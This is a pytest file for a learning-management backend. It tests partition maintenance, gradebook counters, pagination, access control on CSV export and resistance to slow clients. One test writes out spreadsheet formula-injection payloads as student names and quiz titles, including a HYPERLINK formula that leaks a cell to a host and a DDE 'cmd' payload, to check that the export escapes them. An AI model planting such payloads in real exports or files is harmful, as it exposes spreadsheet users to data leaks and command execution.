"""Issue 21 §1: big courses and long histories stay flat.

- `lms db maintain` moves every month found in the DEFAULT attempts partition into its own partition
  (past months too), as the owner, whose FORCEd RLS must not get in the way of the move.
- attempt.start finds the open attempt in one partition (the counter row's last_started_at), also
  after an attempt's started_at was rewritten.
- The gradebook's cells on the counter rows equal what the attempts say, after start, submit, expiry,
  direct updates and deletes.
- Per-course pages: the right page in the right order, and the same JSON as before for every field.
- `python -m bench.generate` on a tiny scale gives data that passes every rule check.
"""

from __future__ import annotations

import asyncio
import time
from datetime import UTC, datetime

from psycopg import sql

from bench.generate import generate, verify
from rpc.db.migrate import maintain
from tests.helpers.assessment import make_course, make_quiz, mc, shift_attempt


def partition_of(db, attempt_id: str) -> str:
    ((name,),) = db.execute("select tableoid::regclass::text from app.quiz_attempts where id = %s", [attempt_id])
    return name


async def test_maintain_moves_every_month_out_of_default(db, users):
    """Attempts of four past months and a far future one sit in DEFAULT (an import); one maintain run
    gives each month its own partition with its rows, DEFAULT ends empty, and a second run does nothing."""
    inst = await users.make("instructor")
    stu = await users.make("student")
    course_id = make_course(db, inst.id, [stu.id])
    with db.connect() as conn:
        (quiz_id,) = conn.execute("insert into app.quizzes (course_id, title, is_published) values (%s, 'q', true) "
                                  "returning id::text", [course_id]).fetchone()
        far = datetime.now(UTC).year + 5  # a far-future month whatever the date the suite runs on
        months = ["2023-01-15", "2023-02-28 23:59:59", "2024-07-01 00:00:00", "2024-12-31 12:00", f"{far}-05-05"]
        for n, at in enumerate(months, 1):
            conn.execute("insert into partitions.quiz_attempts_default (user_id, quiz_id, attempt_number, status, "
                         "started_at, submitted_at, score, passed, points_earned, points_total) "
                         "values (%s, %s, %s, 'submitted', %s::timestamp at time zone 'UTC', "
                         "%s::timestamp at time zone 'UTC' + interval '1 second', 50, false, 1, 2)",
                         [stu.id, quiz_id, n, at, at])
        conn.commit()
        report = maintain(conn)
    assert report["internal.maintain_partitions()"]["quiz_attempts_partitions_created"] >= 5, report
    assert db.execute("select count(*) from partitions.quiz_attempts_default") == [(0,)]
    rows = db.execute("select tableoid::regclass::text, count(*) from app.quiz_attempts where quiz_id = %s "
                      "group by 1 order by 1", [quiz_id])
    assert rows == [("partitions.quiz_attempts_y2023m01", 1), ("partitions.quiz_attempts_y2023m02", 1),
                    ("partitions.quiz_attempts_y2024m07", 1), ("partitions.quiz_attempts_y2024m12", 1),
                    (f"partitions.quiz_attempts_y{far}m05", 1)]
    # The new partitions are like the others: RLS enabled, lz4 for the JSON columns, the parent's keys.
    (row,) = db.execute("select c.relrowsecurity, (select string_agg(a.attcompression::text, '' order by a.attname) "
                        "from pg_attribute a where a.attrelid = c.oid and a.attname in ('answers', 'grading')) "
                        "from pg_class c where c.oid = 'partitions.quiz_attempts_y2023m01'::regclass")
    assert row == (True, "ll")
    with db.connect() as conn:
        again = maintain(conn)
    assert again["internal.maintain_partitions()"]["quiz_attempts_partitions_created"] == 0


async def test_attempt_start_resumes_from_one_partition(rpc, db, users):
    """The open attempt is found through the counter row's last_started_at — also after its started_at
    moved to another month (the trigger moves the counter along); the lookup plan touches one partition."""
    inst = await users.make("instructor")
    stu = await users.make("student")
    course_id = make_course(db, inst.id, [stu.id])
    quiz = await make_quiz(rpc, inst.token, course_id, [mc()], max_attempts=3)
    first = await rpc.ok("attempt.start", {"quiz_id": quiz.id}, stu.token)
    ((last,),) = db.execute("select last_started_at from app.quiz_attempt_counters where quiz_id = %s", [quiz.id])
    assert last is not None
    before = partition_of(db, first["attempt_id"])
    shift_attempt(db, first["attempt_id"], "75 days")
    assert partition_of(db, first["attempt_id"]) != before
    again = await rpc.ok("attempt.start", {"quiz_id": quiz.id}, stu.token)
    assert (again["attempt_id"], again["resumed"]) == (first["attempt_id"], True)
    with db.connect() as conn:
        conn.execute("set role lms_owner")
        conn.execute("select internal.ensure_monthly_partitions('app.quiz_attempts', 3)")
        conn.execute("reset role")
        conn.commit()
        for _ in range(6):  # past plpgsql's custom-plan phase too
            lines = [r[0] for r in conn.execute(
                sql.SQL("explain (costs off) select a.* from app.quiz_attempts a where a.user_id = %s "
                        "and a.quiz_id = %s and a.started_at = %s and a.status = 'in_progress'"),
                [stu.id, quiz.id, last]).fetchall()]
        scans = [ln for ln in lines if " on quiz_attempts_" in ln or " on partitions" in ln]
        assert len(scans) == 1, lines


async def test_counter_rows_carry_the_gradebook_cells(rpc, db, users):
    """closed_attempts, best_score and passed on each counter row = the attempts', whatever path
    changed them: submit, expiry, a direct update, a delete."""
    inst = await users.make("instructor")
    stu = await users.make("student")
    course_id = make_course(db, inst.id, [stu.id])
    quiz = await make_quiz(rpc, inst.token, course_id, [mc(), mc()], max_attempts=5, time_limit_minutes=5)

    def cells():
        return db.execute("select closed_attempts, best_score, passed from app.quiz_attempt_counters "
                          "where quiz_id = %s", [quiz.id])[0]

    a1 = await rpc.ok("attempt.start", {"quiz_id": quiz.id}, stu.token)
    assert cells() == (0, None, False)
    await rpc.ok("attempt.submit", {"attempt_id": a1["attempt_id"],
                                    "answers": {quiz.question_ids[0]: "b"}}, stu.token)
    assert cells() == (1, 50, False)
    a2 = await rpc.ok("attempt.start", {"quiz_id": quiz.id}, stu.token)
    shift_attempt(db, a2["attempt_id"], "1 hour")
    await rpc.ok("attempt.start", {"quiz_id": quiz.id}, stu.token)  # closes a2 as expired, starts a3
    assert cells() == (2, 50, False)
    db.execute("update app.quiz_attempts set score = 100, passed = true where id = %s", [a1["attempt_id"]])
    assert cells() == (2, 100, True)
    db.execute("delete from app.quiz_attempts where id = %s", [a1["attempt_id"]])
    assert cells() == (1, 0, False)
    book = await rpc.ok("gradebook.course", {"course_id": course_id}, inst.token)
    assert [(c["best_score"], c["passed"], c["attempts"]) for c in book[0]["quizzes"]] == [(0, False, 1)]


async def test_pages_of_a_course_in_order(rpc, db, users):
    """enrollment.list_for_course, gradebook.course and attempt.list_for_quiz page in their documented
    order; two pages put together are the whole list."""
    inst = await users.make("instructor")
    students = [await users.make("student") for _ in range(7)]
    course_id = make_course(db, inst.id)
    for n, s in enumerate(students):
        db.execute("insert into app.enrollments (user_id, course_id, enrolled_at) "
                   "values (%s, %s, now() - %s * interval '1 hour')", [s.id, course_id, 10 - n])
    quiz = await make_quiz(rpc, inst.token, course_id, [mc()])
    for s in students:
        a = await rpc.ok("attempt.start", {"quiz_id": quiz.id}, s.token)
        await rpc.ok("attempt.submit", {"attempt_id": a["attempt_id"], "answers": {quiz.question_ids[0]: "b"}},
                     s.token)
    expected = [s.id for s in students]
    for method, params, key in (("enrollment.list_for_course", {"course_id": course_id}, "user_id"),
                                ("gradebook.course", {"course_id": course_id}, "user_id"),
                                ("attempt.list_for_quiz", {"quiz_id": quiz.id}, "user_id")):
        first = await rpc.ok(method, {**params, "limit": 4}, inst.token)
        rest = await rpc.ok(method, {**params, "limit": 4, "offset": 4}, inst.token)
        assert [r[key] for r in first + rest] == expected, method
    book = await rpc.ok("gradebook.course", {"course_id": course_id, "limit": 1}, inst.token)
    assert book[0]["quizzes"][0]["best_score"] == 100 and book[0]["full_name"]
    listed = await rpc.ok("enrollment.list_for_course", {"course_id": course_id, "limit": 1}, inst.token)
    assert listed[0]["course_title"] == "Course" and listed[0]["student"]["id"] == students[0].id


def test_generated_data_obeys_every_rule(db):
    """`python -m bench.generate` (here at a tiny scale) loads data that passes every rule check."""
    counts = generate(db.url, 0.002, check=False, out=open("/dev/null", "w"))
    assert counts["enrollments"] > 10_000 and counts["quiz_attempts"] > 1_000, counts
    with db.connect() as conn:
        assert [(label, n) for label, n in verify(conn) if n] == []


async def test_gradebook_csv_export_streams_for_the_course_manager_only(rpc, db, users):
    """GET /export/courses/{id}/gradebook.csv: the instructor gets every student × item as CSV (by
    name); a student 403, an outsider of an unpublished course 404, no token 401 — decided in SQL."""
    import csv
    import io

    inst = await users.make("instructor")
    other = await users.make("instructor")
    students = [await users.make("student") for _ in range(3)]
    course_id = make_course(db, inst.id, [s.id for s in students])
    quiz = await make_quiz(rpc, inst.token, course_id, [mc()])
    a = await rpc.ok("attempt.start", {"quiz_id": quiz.id}, students[0].token)
    await rpc.ok("attempt.submit", {"attempt_id": a["attempt_id"], "answers": {quiz.question_ids[0]: "b"}},
                 students[0].token)
    url = f"{rpc.base}/export/courses/{course_id}/gradebook.csv"

    async def get(token):
        headers = {"Authorization": f"Bearer {token}"} if token else {}
        async with rpc.session.get(url, headers=headers) as resp:
            return resp.status, resp.headers.get("Content-Type", ""), await resp.text()

    status, ctype, body = await get(inst.token)
    assert status == 200 and ctype.startswith("text/csv"), (status, body)
    rows = list(csv.DictReader(io.StringIO(body)))
    assert len(rows) == 3 and {r["item_type"] for r in rows} == {"quiz"}
    assert [r["full_name"] for r in rows] == sorted(r["full_name"] for r in rows)
    mine = next(r for r in rows if r["user_id"] == students[0].id)
    assert (mine["best_score"], mine["passed"], mine["attempts"]) == ("100", "t", "1")
    assert (await get(students[0].token))[0] == 403
    assert (await get(other.token))[0] == 403  # a published course: visible, not theirs
    db.execute("update app.courses set is_published = false where id = %s", [course_id])
    status, _, body = await get(other.token)
    assert status == 404 and '"not_found"' in body
    assert (await get(None))[0] == 401
    # HEAD: GET's headers and no body — the body it used to send desynchronised the kept-alive
    # connection (the next answer on it began with CSV rows: "Bad status line").
    for _ in range(2):
        async with rpc.session.head(url, headers={"Authorization": f"Bearer {inst.token}"}) as resp:
            assert resp.status == 200 and resp.headers["Content-Type"].startswith("text/csv")
        status, _, body = await get(inst.token)
        assert status == 200 and body.startswith("user_id,"), body[:80]


async def test_csv_cells_never_run_as_spreadsheet_formulas(rpc, db, users):
    """Issue 26 §4 (OWASP CSV injection): a student's own full_name such as =HYPERLINK(…) lands in
    the instructor's CSV with a leading apostrophe; so do + - @ tab and CR at the start."""
    import csv
    import io

    inst = await users.make("instructor")
    names = ['=HYPERLINK("http://x/?"&C3,"Sam")', "+1+2", "-3", "@SUM(A1)", "\tTab", "\rCR", "Plain - name"]
    students = [await users.make("student", full_name=n) for n in names]
    course_id = make_course(db, inst.id, [s.id for s in students])
    db.execute("insert into app.quizzes (course_id, title) values (%s, '=cmd|'' /C calc''!A0')", [course_id])
    async with rpc.session.get(f"{rpc.base}/export/courses/{course_id}/gradebook.csv",
                               headers={"Authorization": f"Bearer {inst.token}"}) as resp:
        assert resp.status == 200
        rows = list(csv.DictReader(io.StringIO(await resp.text(), newline="")))
    got = {r["full_name"] for r in rows}
    assert got == {"'" + n for n in names[:-1]} | {"Plain - name"}, got
    assert {r["item_title"] for r in rows} == {"'=cmd|' /C calc'!A0"}


async def test_slow_export_readers_hold_no_pooled_connection(rpc, db, users):
    """Issue 26 §3: eight exports whose clients never read held eight pooled connections (the whole
    pool) for up to 300 s. Now the CSV is spooled first: the pool stays free for every other call,
    and a client that has not taken the file within EXPORT_SEND_SECONDS is cut off."""
    import socket

    from rpc.http import exports

    admins = [await users.make("admin") for _ in range(8)]
    inst = await users.make("instructor")
    course_id = make_course(db, inst.id)
    with db.connect() as conn:  # a CSV of ~15 MB: more than loopback's socket buffers take
        conn.execute("insert into app.users (email, password_hash, full_name) select 'bulk' || i || '@example.test', "
                     "'x', 'Student number ' || i from generate_series(1, 3000) i")
        conn.execute("insert into app.enrollments (user_id, course_id) select id, %s from app.users "
                     "where email like 'bulk%%@example.test'", [course_id])
        conn.execute("insert into app.quizzes (course_id, title) select %s, 'A quiz with a long enough title ' || i "
                     "from generate_series(1, 40) i", [course_id])
    host, port = rpc.base.removeprefix("http://").split(":")
    stalled = []
    old = getattr(exports, "EXPORT_SEND_SECONDS", 300)
    exports.EXPORT_SEND_SECONDS = 6.0
    try:
        for admin in admins:
            s = socket.socket()
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            s.connect((host, int(port)))
            s.sendall(f"GET /export/courses/{course_id}/gradebook.csv HTTP/1.1\r\nHost: x\r\n"
                      f"Authorization: Bearer {admin.token}\r\n\r\n".encode())
            stalled.append(s)  # never read
        deadline = time.monotonic() + 60  # a loaded machine spools slowly: wait for each first byte
        for s in stalled:
            s.setblocking(False)
            while True:
                try:
                    if s.recv(1, socket.MSG_PEEK):
                        break
                except BlockingIOError:
                    pass
                assert time.monotonic() < deadline, "an export never started sending"
                await asyncio.sleep(0.1)
            s.setblocking(True)
        sending = time.monotonic()  # every export has spooled and is stuck sending
        for _ in range(10):
            started = time.monotonic()
            assert "result" in await rpc.call("user.me", {}, inst.token)
            assert time.monotonic() - started < 1.0
        await asyncio.sleep(max(0.0, exports.EXPORT_SEND_SECONDS + 1.0 - (time.monotonic() - sending)))
        for s in stalled:  # the server gave up on them: the stream ends short of the file
            s.settimeout(5)
            got = 0
            try:
                while chunk := s.recv(1 << 20):
                    got += len(chunk)
            except (ConnectionResetError, TimeoutError):
                pass
            assert 0 < got < 15_000_000, got
    finally:
        exports.EXPORT_SEND_SECONDS = old
        for s in stalled:
            s.close()
